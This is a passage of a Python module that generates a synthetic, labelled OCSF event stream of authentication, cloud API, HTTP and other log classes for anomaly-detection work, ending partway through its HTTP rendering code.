"""A realistic, labelled OCSF event stream: what a security or SRE team's pipeline would export.

``simulate(n_events, days, seed)`` returns a :class:`Simulation` with two tables:

* ``events``: one row per OCSF event, seven classes in one flat table (Authentication 3002, API
  Activity 6003, HTTP Activity 4002, Network Activity 4001, DNS Activity 4003, Process Activity 1007,
  Detection Finding 2004), columns named by dotted OCSF paths and sparse across classes, exactly the
  "raw export" contract of ``docs/architecture.md`` (JSON-string objects and arrays, ``http_response.code``
  as strings, ``time`` in epoch ms beside ``time_dt``, free text with ids, unique ids, constant columns,
  a duplicated measure, exact duplicate events, heavy tails and a 30 s timeout ceiling);
* ``labels``: one row per anomalous event (``event_uid``, ``scenario``, ``category``, ``shape``,
  ``entity``, ``fields``), never joined into ``events``.

How it is generated (columnar, no per-event Python objects):

1. :func:`~obsad.ocsf.population.build_population` draws the organisation;
2. for each class, a *draw* step samples the primary attributes of ``n`` events at once with numpy
   (who, when -- from per-role diurnal and weekly rhythms in local time --, what, outcome, sizes,
   latencies, ids);
3. the scenarios of :mod:`obsad.ocsf.scenarios` draw their own events with the same functions and
   change only the primary attributes their signature names (or, for slow latency creep, change
   normal events in place);
4. a pure *render* step turns primary attributes into OCSF columns (labels, messages, JSON strings), so
   derived fields follow their inputs and nothing else changes;
5. the blocks are stacked, 0.5 % of rows are re-sent as exact duplicates (same ``metadata.uid``), and
   the table is sorted by time.

The same seed gives the same tables and byte-identical Parquet files.
"""

from __future__ import annotations

import os
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa

from . import population as popmod
from .population import (
    AWS_ACCOUNTS,
    AWS_REGIONS,
    CITIES,
    CORP_DOMAIN,
    DNS_DOMAINS,
    ENDPOINTS,
    SERVICES,
    SSO_APP_ROLES,
    SSO_APPS,
    Population,
    build_population,
    hourly_weights,
)

TIMEOUT_MS = 30_000  #: the proxies' upstream timeout: latencies pile up here with a 504
VENDOR = "Obsad Sim"
DUPLICATE_RATE = 0.005

# --------------------------------------------------------------------------------------------------
# OCSF classes and the products that emit them
# --------------------------------------------------------------------------------------------------
#: key -> (class_uid, class_name, category_uid, category_name)
CLASSES = {
    "auth": (3002, "Authentication", 3, "Identity & Access Management"),
    "api": (6003, "API Activity", 6, "Application Activity"),
    "http": (4002, "HTTP Activity", 4, "Network Activity"),
    "net": (4001, "Network Activity", 4, "Network Activity"),
    "dns": (4003, "DNS Activity", 4, "Network Activity"),
    "proc": (1007, "Process Activity", 1, "System Activity"),
    "finding": (2004, "Detection Finding", 2, "Findings"),
}
CLASS_ORDER = tuple(CLASSES)

ACTIVITY_NAMES = {
    "auth": {1: "Logon", 2: "Logoff"},
    "api": {1: "Create", 2: "Read", 3: "Update", 4: "Delete"},
    "http": {1: "Connect", 2: "Delete", 3: "Get", 4: "Head", 5: "Options", 6: "Post", 7: "Put", 8: "Trace"},
    "net": {1: "Open", 2: "Close", 3: "Reset", 4: "Fail", 5: "Refuse", 6: "Traffic"},
    "dns": {1: "Query", 2: "Response", 6: "Traffic"},
    "proc": {1: "Launch", 2: "Terminate"},
    "finding": {1: "Create", 2: "Update", 3: "Close"},
}
SEVERITY = {0: "Unknown", 1: "Informational", 2: "Low", 3: "Medium", 4: "High", 5: "Critical"}
STATUS = {0: "Unknown", 1: "Success", 2: "Failure"}
FINDING_STATUS = {1: "New", 2: "In Progress", 3: "Suppressed", 4: "Resolved"}

#: product name, product version, OCSF schema version the source emits
PRODUCTS = {
    "auth": ("Identity Gateway", "2024.03.1", "1.3.0"),
    "api": ("Cloud Audit Trail", "1.10", "1.1.0"),
    "edge": ("Edge Proxy", "1.29.2", "1.3.0"),
    "mesh": ("Service Mesh", "1.21.0", "1.1.0"),
    "net": ("Flow Collector", "5.2.0", "1.1.0"),
    "dns": ("DNS Resolver Logs", "9.18.24", "1.1.0"),
    "proc": ("Endpoint Sensor", "7.11.18110", "1.0.0"),
    "finding": ("Network IDS", "7.0.3", "1.3.0"),
}

#: share of normal events per class
CLASS_SHARES = {"auth": 0.07, "api": 0.07, "http": 0.27, "net": 0.29, "dns": 0.215, "proc": 0.07, "finding": 0.015}

FAIL_REASONS = (
    # status_code, human text, severity_id
    ("INVALID_CREDENTIALS", "Invalid credentials", 2),
    ("MFA_DENIED", "MFA challenge denied by user", 2),
    ("PASSWORD_EXPIRED", "Password has expired", 2),
    ("LOCKED_OUT", "Account locked after too many failed attempts", 3),
    ("UNKNOWN_USER", "User not found in directory", 2),
)
FAIL_P = np.array([0.72, 0.12, 0.05, 0.03, 0.08])
CORP_AD = len(SSO_APPS)  # app index meaning "Kerberos/NTLM against the domain controllers"


@dataclass
class Block:
    """Rendered columns of ``n`` events of one class (numpy arrays, object dtype for strings)."""

    cls: str
    cols: dict[str, np.ndarray]

    @property
    def n(self) -> int:
        return len(self.cols["time"])


@dataclass
class Simulation:
    """The simulator's output: the raw export, its labels, and the world behind them."""

    events: pd.DataFrame
    labels: pd.DataFrame
    population: Population
    seed: int
    start: str
    days: int
    scenario_counts: dict[str, int] = field(default_factory=dict)

    @property
    def n_anomalous(self) -> int:
        return len(self.labels)


# --------------------------------------------------------------------------------------------------
# small vectorised helpers
# --------------------------------------------------------------------------------------------------


def _obj(values) -> np.ndarray:
    out = np.empty(len(values), dtype=object)
    out[:] = list(values) if not isinstance(values, np.ndarray) else values
    return out


def _where(mask: np.ndarray, a, b) -> np.ndarray:
    """``np.where`` that keeps object dtype (None stays None)."""
    out = np.empty(len(mask), dtype=object)
    out[:] = b if not np.isscalar(b) and b is not None else [b] * len(mask)
    if np.isscalar(a) or a is None:
        out[mask] = a
    else:
        out[mask] = np.asarray(a, dtype=object)[mask]
    return out


def _lookup(table: dict, keys: np.ndarray) -> np.ndarray:
    """``table[k]`` for every key (None where absent), computed once per distinct key."""
    codes, uniques = pd.factorize(np.asarray(keys), use_na_sentinel=True)
    vals = np.empty(len(uniques) + 1, dtype=object)
    vals[:-1] = [table.get(k.item() if hasattr(k, "item") else k) for k in uniques]
    vals[-1] = None
    return vals[codes]


def _lognormal(rng: np.random.Generator, median, sigma, n: int) -> np.ndarray:
    return np.exp(np.log(median) + sigma * rng.standard_normal(n))


class _Sim:
    """Holds the generator, the population and the time window; draws and renders events."""

    def __init__(self, rng: np.random.Generator, pop: Population, start_ms: int, days: int):
        self.rng = rng
        self.pop = pop
        self.start_ms = start_ms
        self.days = days
        self.end_ms = start_ms + days * 86_400_000
        self._weights: dict[tuple[str, int], np.ndarray] = {}
        self.n_hours = days * 24
        cities = np.array([c[1] for c in CITIES], dtype=object)
        self.city_name = np.append(cities, None)  # index -1 -> None
        self.city_country = np.append(np.array([c[0] for c in CITIES], dtype=object), None)
        self.city_lat = np.append(np.array([c[2] for c in CITIES]), np.nan)
        self.city_long = np.append(np.array([c[3] for c in CITIES]), np.nan)
        self.city_tz = np.array([c[4] for c in CITIES], dtype=np.int64)
        self._host_kind = self._host_kinds()
        self._domain_ips = self._domain_answers()
        self.bot_ip = np.array(popmod._public_ips(rng, 40, set(pop.customer_ip) | set(pop.saas_ip)), dtype=object)
        self.bot_city = rng.choice(np.unique(pop.saas_city), size=40)
        self.hotel_ip = np.array(popmod._public_ips(rng, max(1, len(pop.travel)), set()), dtype=object)
        self.build_hash = ["3f9c2a1e", "7d41be09", "c0a85f62"]

    # ------------------------------------------------------------------ ids and time
    def hexids(self, n: int, width: int) -> np.ndarray:
        nbytes = (width + 1) // 2
        raw = self.rng.bytes(n * nbytes).hex()
        step = nbytes * 2
        return _obj([raw[i * step : i * step + width] for i in range(n)])

    def uuids(self, n: int) -> np.ndarray:
        raw = self.rng.bytes(16 * n).hex()
        var = "89ab"  # RFC 4122 variant nibble
        return _obj(
            [f"{raw[i:i + 8]}-{raw[i + 8:i + 12]}-4{raw[i + 13:i + 16]}-{var[int(raw[i + 16], 16) & 3]}{raw[i + 17:i + 20]}-{raw[i + 20:i + 32]}"
             for i in range(0, 32 * n, 32)]
        )

    def hour_weights(self, profile: str, tz: int) -> np.ndarray:
        key = (profile, tz)
        if key not in self._weights:
            self._weights[key] = hourly_weights(profile, tz, self.start_ms, self.days)
        return self._weights[key]

    def times(self, profiles: np.ndarray, tzs: np.ndarray) -> np.ndarray:
        """Event times (epoch ms) following each event's rhythm profile in its local time zone."""
        n = len(profiles)
        out = np.empty(n, dtype=np.int64)
        names = sorted(set(profiles.tolist()))
        pcode = np.searchsorted(np.array(names, dtype=object), profiles)
        key = pcode * 100 + (np.asarray(tzs, dtype=np.int64) + 50)
        uniq, inv = np.unique(key, return_inverse=True)
        for k, kv in enumerate(uniq.tolist()):
            idx = np.flatnonzero(inv == k)
            w = self.hour_weights(names[kv // 100], kv % 100 - 50)
            h = self.rng.choice(self.n_hours, size=len(idx), p=w)
            out[idx] = self.start_ms + h * 3_600_000 + self.rng.integers(0, 3_600_000, len(idx))
        return out

    def common(self, cls: str, t: np.ndarray, activity: np.ndarray, severity: np.ndarray,
               product: np.ndarray | str, status: np.ndarray | None = None,
               status_labels: dict | None = None) -> dict[str, np.ndarray]:
        uid, cname, cat, catname = CLASSES[cls]
        n = len(t)
        names = ACTIVITY_NAMES[cls]
        act_name = _lookup(names, activity)
        cols: dict[str, np.ndarray] = {
            "time": t.astype(np.int64),
            "class_uid": np.full(n, uid, dtype=np.int64),
            "class_name": _obj([cname] * n),
            "category_uid": np.full(n, cat, dtype=np.int64),
            "category_name": _obj([catname] * n),
            "activity_id": activity.astype(np.int64),
            "activity_name": act_name,
            "type_uid": (uid * 100 + activity).astype(np.int64),
            "type_name": _obj([f"{cname}: {a}" for a in act_name.tolist()]),
            "severity_id": severity.astype(np.int64),
            "severity": _lookup(SEVERITY, severity),
        }
        if status is not None:
            cols["status_id"] = status.astype(np.int64)
            cols["status"] = _lookup(status_labels or STATUS, status)
        if isinstance(product, str):
            product = np.full(n, product, dtype=object)
        pname = _lookup({k: v[0] for k, v in PRODUCTS.items()}, product)
        cols["metadata.version"] = _lookup({k: v[2] for k, v in PRODUCTS.items()}, product)
        cols["metadata.product.name"] = pname
        cols["metadata.product.vendor_name"] = _obj([VENDOR] * n)
        cols["metadata.product.version"] = _lookup({k: v[1] for k, v in PRODUCTS.items()}, product)
        cols["metadata.product.lang"] = _obj(["en"] * n)
        return cols

    def geo(self, cols: dict, prefix: str, city: np.ndarray, latlong: bool) -> None:
        c = np.where(city < 0, len(CITIES), city)
        cols[f"{prefix}.location.city"] = self.city_name[c]
        cols[f"{prefix}.location.country"] = self.city_country[c]
        if latlong:
            cols[f"{prefix}.location.lat"] = self.city_lat[c]
            cols[f"{prefix}.location.long"] = self.city_long[c]

    # ================================================================== Authentication (3002)
    def normal_auth(self, n: int) -> dict:
        pop = self.pop
        w = pop.user_activity * np.where(pop.user_role == "service", 0.0, 1.0)
        for nm in ("svc-ldap-sync", "svc-jira-sync", "svc-ci-deploy", "svc-scanner"):
            w[np.flatnonzero(pop.user_name == nm)] = 0.6
        u = self.rng.choice(pop.n_users, size=n, p=w / w.sum())
        t = self.times(pop.user_profile[u], pop.user_tz[u])
        return self.draw_auth(t, u)

    def draw_auth(self, t: np.ndarray, u: np.ndarray, app: np.ndarray | None = None,
                  fail: np.ndarray | None = None, logoff: np.ndarray | None = None) -> dict:
        """Primary attributes of authentications by users ``u`` at ``t``; ``app``, ``fail`` and ``logoff``
        may be imposed (the random draws are still made, so the generator advances the same way)."""
        rng, pop = self.rng, self.pop
        n = len(t)
        role = pop.user_role[u]
        svc = role == "service"
        drawn_app = np.full(n, CORP_AD, dtype=np.int64)
        for r in sorted(set(role.tolist()) - {"service"}):
            m = np.flatnonzero(role == r)
            wts = np.array([a[1] if (SSO_APP_ROLES.get(a[0]) is None or r in SSO_APP_ROLES[a[0]]) else 0.0
                            for a in SSO_APPS] + [14.0])
            drawn_app[m] = rng.choice(len(wts), size=len(m), p=wts / wts.sum())
        app = drawn_app if app is None else np.broadcast_to(np.asarray(app, dtype=np.int64), (n,)).copy()
        kerb = app == CORP_AD
        proto = np.where(kerb, np.where(rng.random(n) < 0.85, 2, 1),
                         np.array([a[2] for a in SSO_APPS] + [0])[app])
        drawn_logoff = (rng.random(n) < 0.09) & ~svc
        logoff = drawn_logoff if logoff is None else np.broadcast_to(np.asarray(logoff, dtype=bool), (n,)).copy()
        activity = np.where(logoff, 2, 1)
        mobile = ~kerb & ~svc & (rng.random(n) < 0.2) & (pop.user_mobile_ua[u] != None)  # noqa: E711
        src_ip = _where(kerb, pop.user_internal_ip[u], pop.user_public_ip[u])
        city = np.where(kerb, -1, pop.user_city[u])
        for k, (tu, tc, ts, te) in enumerate(pop.travel):
            m = (u == tu) & (t >= ts) & (t < te) & ~kerb
            src_ip[m] = self.hotel_ip[k]
            city[m] = tc
        ua = _where(mobile, pop.user_mobile_ua[u], pop.user_ua[u])
        ua[kerb | (app == 9)] = None  # Kerberos and the VPN client send no user agent
        ua[~kerb & (rng.random(n) < 0.01)] = None
        drawn_fail = (rng.random(n) < np.where(svc, 0.004, 0.035)) & ~logoff
        fail = drawn_fail if fail is None else np.broadcast_to(np.asarray(fail, dtype=bool), (n,)).copy()
        reason = np.where(fail, rng.choice(len(FAIL_REASONS), size=n, p=FAIL_P), -1)
        reason[kerb & (reason == 1)] = 0  # no MFA on Kerberos
        status = np.where(fail, 2, 1)
        uname = pop.user_name[u].copy()
        typo = np.flatnonzero(reason == 4)
        uname[typo] = _obj([s[:k] + s[k + 1:] for s, k in zip(uname[typo].tolist(), rng.integers(1, 5, len(typo)).tolist())])
        uu = u.copy()
        uu[typo] = -1
        mfa_draw = rng.random(n)
        is_mfa = np.full(n, None, dtype=object)
        sso_logon = ~kerb & (activity == 1)
        is_mfa[sso_logon] = np.where(mfa_draw[sso_logon] < 0.78, "true", "false")
        is_mfa[sso_logon & (status == 2) & (reason != 1)] = "false"
        is_mfa[sso_logon & (reason == 1)] = "true"
        return {
            "t": t, "u": uu, "uname": uname, "activity": activity, "app": app, "proto": proto,
            "src_ip": src_ip, "city": city, "ua": ua, "status": status, "reason": reason,
            "is_mfa": is_mfa, "session": self.hexids(n, 20), "rid": self.hexids(n, 24),
            "attempt": rng.integers(1, 4, n),
        }

    def render_auth(self, P: dict) -> Block:
        pop = self.pop
        u, status, reason, activity = P["u"], P["status"], P["reason"], P["activity"]
        n = len(u)
        known = u >= 0
        uk = np.where(known, u, 0)
        sev = np.where(status == 2, np.array([r[2] for r in FAIL_REASONS])[np.maximum(reason, 0)], 1)
        cols = self.common("auth", P["t"], activity, sev, "auth", status)
        fr_code = np.array([r[0] for r in FAIL_REASONS], dtype=object)
        fr_text = np.array([r[1] for r in FAIL_REASONS], dtype=object)
        code = _where(status == 2, fr_code[np.maximum(reason, 0)], "SUCCESS")
        cols["status_code"] = code
        apps = np.array([a[0] for a in SSO_APPS] + ["corp-ad"], dtype=object)[P["app"]]
        names = P["uname"]
        detail = np.full(n, None, dtype=object)
        f = np.flatnonzero(status == 2)
        detail[f] = _obj([
            (f"{fr_text[r]} (attempt {a} of 5)" if r == 0 else
             f"User '{nm}' not found in directory" if r == 4 else fr_text[r])
            for r, a, nm in zip(reason[f].tolist(), P["attempt"][f].tolist(), names[f].tolist())
        ])
        cols["status_detail"] = detail
        sess = P["session"]
        cols["message"] = _obj([
            (f"Logon failure for {nm} on {ap}: {c}" if s == 2 else
             f"User {nm} logged off from {ap}" if a == 2 else
             f"User {nm} logged on to {ap} (session {se[:8]})")
            for nm, ap, c, s, a, se in zip(names.tolist(), apps.tolist(), code.tolist(), status.tolist(),
                                            activity.tolist(), sess.tolist())
        ])
        cols["user.name"] = names
        cols["user.uid"] = _where(known, pop.user_uid[uk], None)
        cols["user.email_addr"] = _where(known, pop.user_email[uk], None)
        tid = np.where(known, pop.user_type_id[uk], -1)
        cols["user.type_id"] = np.where(known, tid, np.nan)
        cols["user.type"] = _where(known, _lookup({1: "User", 2: "Admin", 3: "System"}, tid), None)
        cols["src_endpoint.ip"] = P["src_ip"]
        self.geo(cols, "src_endpoint", P["city"], latlong=True)
        cols["service.name"] = apps
        cols["auth_protocol_id"] = P["proto"].astype(np.int64)
        cols["auth_protocol"] = _lookup({1: "NTLM", 2: "Kerberos", 4: "OpenID", 5: "SAML", 10: "RADIUS"}, P["proto"])
        cols["is_mfa"] = P["is_mfa"]
        cols["http_request.user_agent"] = P["ua"]
        cols["session.uid"] = _where(status == 1, sess, None)
        cols["unmapped"] = _obj([f'{{"idp_request_id": "{r}", "tenant": "example"}}' for r in P["rid"].tolist()])
        return Block("auth", cols)

    # ================================================================== API Activity (6003)
    def normal_api(self, n: int) -> dict:
        pop = self.pop
        w = pop.user_api_weight
        u = self.rng.choice(pop.n_users, size=n, p=w / w.sum())
        t = self.times(pop.user_profile[u], pop.user_tz[u])
        ops = np.empty(n, dtype=np.int64)
        actor_key = _where(pop.user_role[u] == "service", pop.user_name[u], pop.user_role[u])
        for k in sorted(set(actor_key.tolist())):
            m = np.flatnonzero(actor_key == k)
            wts = API_PROFILES[k]
            p = np.array([wts.get(op[1], 0.0) for op in API_OPS])
            ops[m] = self.rng.choice(len(API_OPS), size=len(m), p=p / p.sum())
        return self.draw_api(t, u, ops)

    def draw_api(self, t: np.ndarray, u: np.ndarray, ops: np.ndarray) -> dict:
        rng, pop = self.rng, self.pop
        n = len(t)
        svc = pop.user_role[u] == "service"
        console = ~svc & ((pop.user_sdk_ua[u] == None) | (rng.random(n) < 0.45))  # noqa: E711
        ua = _where(console, popmod.CONSOLE_UA, pop.user_sdk_ua[u])
        src_ip = _where(svc, pop.user_internal_ip[u], pop.user_public_ip[u])
        fail = rng.random(n) < np.where(svc, 0.008, 0.03)
        err = np.where(fail, np.where(svc, 1, 0), -1)
        region = np.where(rng.random(n) < 0.82, 0, rng.integers(1, 3, n))
        acct = np.where(rng.random(n) < 0.75, 0, rng.integers(1, 3, n))
        # resource identifiers, drawn for every event whatever the operation
        bucket = np.array([API_BUCKET.get(x, API_BUCKET["default"]) for x in pop.user_name[u].tolist()], dtype=object)
        eng = np.isin(pop.user_role[u], ("engineer", "admin"))
        bucket[eng] = np.array(API_BUCKETS_ENG, dtype=object)[rng.integers(0, len(API_BUCKETS_ENG), eng.sum())]
        fin = pop.user_role[u] == "finance"
        bucket[fin] = "finance-reports-prod"
        return {
            "t": t, "u": u, "op": ops, "ua": ua, "src_ip": src_ip, "err": err, "region": region,
            "acct": acct, "bucket": bucket, "rid": self.uuids(n), "key_id": rng.integers(10_000, 999_999, n),
            "res_hex": self.hexids(n, 17), "target_user": pop.user_name[rng.integers(0, pop.n_users, n)],
            "policy": np.array(_POLICIES, dtype=object)[rng.integers(0, len(_POLICIES), n)],
        }

    def render_api(self, P: dict) -> Block:
        pop = self.pop
        u, op = P["u"], P["op"]
        n = len(u)
        status = np.where(P["err"] >= 0, 2, 1)
        activity = np.array([o[2] for o in API_OPS])[op]
        cols = self.common("api", P["t"], activity, np.ones(n, dtype=np.int64), "api", status)
        svc_name = np.array([o[0] for o in API_OPS], dtype=object)[op]
        op_name = np.array([o[1] for o in API_OPS], dtype=object)[op]
        acct = np.array(AWS_ACCOUNTS, dtype=object)[P["acct"]]
        region = np.array(AWS_REGIONS, dtype=object)[P["region"]]
        cols["status_code"] = _where(status == 2, np.array(["AccessDenied", "ThrottlingException"], dtype=object)[np.maximum(P["err"], 0)], None)
        # resources as a JSON array of objects (0, 1 or 2 entries)
        res, arn0 = [], []
        for o, b, k, h, a, rg, tu, pol in zip(op.tolist(), P["bucket"].tolist(), P["key_id"].tolist(),
                                              P["res_hex"].tolist(), acct.tolist(), region.tolist(),
                                              P["target_user"].tolist(), P["policy"].tolist()):
            kind = API_OPS[o][3]
            if kind is None:
                res.append(None)
                arn0.append("*")
                continue
            items = []
            for rtype in kind.split("+"):
                arn = API_ARN[rtype].format(bucket=b, key=k, hex=h, acct=a, region=rg, user=tu, policy=pol)
                items.append(f'{{"uid": "{arn}", "type": "{rtype}"}}')
            res.append("[" + ", ".join(items) + "]")
            arn0.append(API_ARN[kind.split("+")[0]].format(bucket=b, key=k, hex=h, acct=a, region=rg, user=tu, policy=pol))
        detail = np.full(n, None, dtype=object)
        f = np.flatnonzero(status == 2)
        detail[f] = _obj([
            (f"User: arn:aws:iam::{a}:user/{nm} is not authorized to perform: {s}:{o} on resource: {r}" if e == 0
             else "Rate exceeded")
            for a, nm, s, o, r, e in zip(acct[f].tolist(), pop.user_name[u][f].tolist(), svc_name[f].tolist(),
                                         op_name[f].tolist(), np.array(arn0, dtype=object)[f].tolist(), P["err"][f].tolist())
        ])
        cols["status_detail"] = detail
        cols["actor.user.name"] = pop.user_name[u]
        cols["actor.user.uid"] = _obj(["AROA" + x[3:].upper() for x in pop.user_uid[u].tolist()])
        cols["actor.user.type_id"] = pop.user_type_id[u]
        cols["actor.user.type"] = _lookup({1: "User", 2: "Admin", 3: "System"}, pop.user_type_id[u])
        cols["api.operation"] = op_name
        cols["api.service.name"] = _obj([f"{s}.amazonaws.com" for s in svc_name.tolist()])
        cols["api.request.uid"] = P["rid"]
        cols["cloud.provider"] = _obj(["AWS"] * n)
        cols["cloud.region"] = region
        cols["cloud.account.uid"] = acct
        cols["src_endpoint.ip"] = P["src_ip"]
        cols["http_request.user_agent"] = P["ua"]
        cols["resources"] = _obj(res)
        ro = np.array([o[2] == 2 for o in API_OPS])[op]
        cols["unmapped"] = _obj([
            f'{{"eventSource": "{s}.amazonaws.com", "readOnly": "{str(r).lower()}", "eventCategory": "Management", '
            f'"recipientAccountId": "{a}"}}'
            for s, r, a in zip(svc_name.tolist(), ro.tolist(), acct.tolist())
        ])
        return Block("api", cols)

    # ================================================================== HTTP Activity (4002)
    def normal_http(self, n: int) -> dict:
        rng, pop = self.rng, self.pop
        kind = rng.choice(4, size=n, p=[0.57, 0.015, 0.345, 0.07])  # edge customer, bot, mesh, staff
        ep = np.empty(n, dtype=np.int64)
        client = np.zeros(n, dtype=np.int64)
        t = np.empty(n, dtype=np.int64)
        # customers on the edge
        m = np.flatnonzero(kind == 0)
        ep[m] = rng.choice(len(ENDPOINTS), size=len(m), p=_EP_EDGE)
        cw = pop.customer_weight / pop.customer_weight.sum()
        client[m] = rng.choice(len(cw), size=len(m), p=cw)
        t[m] = self.times(np.full(len(m), "customer", dtype=object), self.city_tz[pop.customer_city[client[m]]])
        # bots and scanners on the edge (background noise, not labelled)
        m = np.flatnonzero(kind == 1)
        ep[m] = rng.choice(len(ENDPOINTS), size=len(m), p=_EP_EDGE)
        client[m] = rng.integers(0, len(self.bot_ip), len(m))
        t[m] = self.times(np.full(len(m), "flat", dtype=object), np.zeros(len(m), dtype=np.int64))
        # service-to-service inside the cluster
        m = np.flatnonzero(kind == 2)
        ep[m] = rng.choice(len(ENDPOINTS), size=len(m), p=_EP_MESH)
        client[m] = rng.choice(_APP_SERVERS(pop), size=len(m))
        t[m] = self.times(np.full(len(m), "server", dtype=object), np.ones(len(m), dtype=np.int64))
        # staff using internal tools
        m = np.flatnonzero(kind == 3)
        ep[m] = rng.choice(len(ENDPOINTS), size=len(m), p=_EP_STAFF)
        staff = pop.users_with_role("support", "finance", "sales", "exec")
        sw = pop.user_activity[staff]
        client[m] = rng.choice(staff, size=len(m), p=sw / sw.sum())
        t[m] = self.times(pop.user_profile[client[m]], pop.user_tz[client[m]])
        return self.draw_http(t, kind, client, ep)

    def draw_http(self, t: np.ndarray, kind: np.ndarray, client: np.ndarray, ep: np.ndarray) -> dict:
        rng, pop = self.rng, self.pop
        n = len(t)
        src_ip = np.empty(n, dtype=object)
        city = np.full(n, -1, dtype=np.int64)
        ua = np.empty(n, dtype=object)
        for k in range(4):
            m = np.flatnonzero(kind == k)
            if not len(m):
                continue
            c = client[m]
            if k == 0:
                src_ip[m] = pop.customer_ip[c]
                city[m] = pop.customer_city[c]
                ua[m] = pop.customer_ua[c]
            elif k == 1:
                src_ip[m] = self.bot_ip[c]
                city[m] = self.bot_city[c]
                ua[m] = np.array(popmod.BOT_UAS, dtype=object)[c % len(popmod.BOT_UAS)]
            elif k == 2:
                src_ip[m] = pop.host_ip[c]
                ua[m] = np.array(popmod.SERVICE_HTTP_UAS, dtype=object)[c % len(popmod.SERVICE_HTTP_UAS)]
            else:
                src_ip[m] = pop.user_internal_ip[c]
                ua[m] = pop.user_ua[c]
        # bots mostly probe paths that do not exist
        probe = (kind == 1) & (rng.random(n) < 0.7)
        med = _EP_LAT[ep]
        latency = _lognormal(rng, med, _EP_SIG[ep], n)
        size = _lognormal(rng, _EP_SIZE[ep], _EP_SIZE_SIG[ep], n)
        r = rng.random(n)
        code = np.full(n, 200, dtype=np.int64)
        is5 = r < _EP_ERR5[ep]
        is4 = ~is5 & (r < _EP_ERR5[ep] + _EP_ERR4[ep])
        code[is4] = rng.choice(np.array([404, 400, 401, 403, 409, 429]), size=is4.sum(), p=[0.45, 0.2, 0.15, 0.08, 0.07, 0.05])
        code[is5] = rng.choice(np.array([500, 502, 503]), size=is5.sum(), p=[0.6, 0.25, 0.15])
        post = _EP_METHOD[ep] == "POST"
        code[(code == 200) & post & (rng.random(n) < 0.6)] = 201
        static = np.char.startswith(_EP_PATH[ep].astype(str), "/static/")
        code[(code == 200) & static & (rng.random(n) < 0.35)] = 304
        code[probe] = 404
        latency[code >= 400] *= 0.5
        latency[code == 503] = rng.uniform(0.5, 4.0, (code == 503).sum())
        size[(code >= 400) | (code == 304)] = _lognormal(rng, 280, 0.3, ((code >= 400) | (code == 304)).sum())
        latency = np.maximum(1, np.round(latency)).astype(np.int64)
        timeout = latency >= TIMEOUT_MS
        latency[timeout] = TIMEOUT_MS
        code[timeout] = 504
        size[timeout] = 24  # "upstream request timeout"
        path = self._paths(ep, t)
        path[probe] = np.array(_BOT_PATHS, dtype=object)[rng.integers(0, len(_BOT_PATHS), probe.sum())]
        qs = self._queries(ep)
        qs[probe] = None
        server = np.empty(n, dtype=np.int64)
        for s in sorted(set(_EP_SERVICE[ep].tolist())):
            m = np.flatnonzero(_EP_SERVICE[ep] == s)
            servers = pop.service_servers[s]
            server[m] = servers[rng.integers(0, len(servers), len(m))]
        return {
            "t": t, "kind": kind, "ep": ep, "src_ip": src_ip, "city": city, "ua": ua,
            "src_port": rng.integers(32768, 61000, n), "server": server, "code": code,
            "latency": latency, "size": np.round(size).astype(np.int64), "path": path, "qs": qs,
            "rid": self.uuids(n), "trace": self.hexids(n, 32), "h2": rng.random(n) < 0.65,
            "ref": self.hexids(n, 8),
        }

    def _paths(self, ep: np.ndarray, t: np.ndarray) -> np.ndarray:
        rng = self.rng
        out = np.empty(len(ep), dtype=object)
        for e in sorted(set(ep.tolist())):
            m = np.flatnonzero(ep == e)
            tmpl = ENDPOINTS[e].path
            k = len(m)
            ids = rng.integers(10_000, 999_999, k).tolist()
            skus = rng.integers(10_000, 99_999, k).tolist()
            cats = rng.integers(0, len(_CATEGORIES), k).tolist()
            uu = self.uuids(k).tolist() if "{uuid}" in tmpl else [""] * k
            # the storefront bundle hash changes with the Wednesday deploy
            day = ((t[m] - self.start_ms) // 86_400_000).tolist()
            out[m] = [
                tmpl.format(id=i, sku=f"SKU-{s}", cat=_CATEGORIES[c], uuid=x,
                            hash=self.build_hash[0 if d < 2 else 1 if d < 5 else 2])
                for i, s, c, x, d in zip(ids, skus, cats, uu, day)
            ]
        return out

    def _queries(self, ep: np.ndarray) -> np.ndarray:
        rng = self.rng
        out = np.full(len(ep), None, dtype=object)
        for e in sorted(set(ep.tolist())):
            q = ENDPOINTS[e].query
            if q is None:
                continue
            m = np.flatnonzero(ep == e)
            k = len(m)
            present = rng.random(k) < 0.85
            vals = [
                q.format(id=i, page=p, off=48 * o, q=_SEARCH_TERMS[s])
                for i, p, o, s in zip(rng.integers(10_000, 999_999, k).tolist(), rng.integers(1, 6, k).tolist(),
                                      rng.integers(0, 10, k).tolist(), rng.integers(0, len(_SEARCH_TERMS), k).tolist())
            ]
            out[m] = _where(present, _obj(vals), None)
        return out

    def render_http(self, P: dict) -> Block:
        pop = self.pop
        ep, code, kind = P["ep"], P["code"], P["kind"]
        n = len(ep)
        edge = kind <= 1
        method = _EP_METHOD[ep]
        activity = _lookup({"GET": 3, "POST": 6, "PUT": 7, "DELETE": 2, "HEAD": 4, "OPTIONS": 5}, method).astype(np.int64)
        status = np.where(code >= 400, 2, 1)
        sev = np.where(code >= 500, 2, 1)
        cols = self.common("http", P["t"], activity, sev, _where(edge, "edge", "mesh"), status)
        service = _EP_SERVICE[ep]
        lat = P["latency"]
        detail = np.full(n, None, dtype=object)
        f = np.flatnonzero((code >= 500) | (code == 429))
        detail[f] = _obj([
            (f"upstream request timeout after {la} ms" if c == 504 else
             "no healthy upstream" if c == 503 else
             "upstream connect error or disconnect/reset before headers. reset reason: connection termination" if c == 502 else
             f"rate limit exceeded for client {ip}" if c == 429 else
             f"Internal Server Error: unhandled exception in {s} handler (ref {rf})")
            for c, la, s, rf, ip in zip(code[f].tolist(), lat[f].tolist(), service[f].tolist(), P["ref"][f].tolist(),
                                        P["src_ip"][f].tolist())
        ])
        cols["status_detail"] = detail
        path = P["path"]
        cols["message"] = _obj([f"{m} {p} {c}" for m, p, c in zip(method.tolist(), path.tolist(), code.tolist())])
        cols["http_request.http_method"] = method
        edge_host = _lookup({k: v[0] for k, v in SERVICES.items()}, service)
        int_host = _lookup({k: v[1] for k, v in SERVICES.items()}, service)
        cols["http_request.url.hostname"] = _where(edge, edge_host, int_host)
        cols["http_request.url.path"] = path
        cols["http_request.url.query_string"] = P["qs"]
        cols["http_request.url.scheme"] = _where(edge, "https", "http")
        cols["http_request.user_agent"] = P["ua"]
        cols["http_request.uid"] = P["rid"]
        cols["http_request.version"] = _where(P["h2"], "HTTP/2.0", "HTTP/1.1")
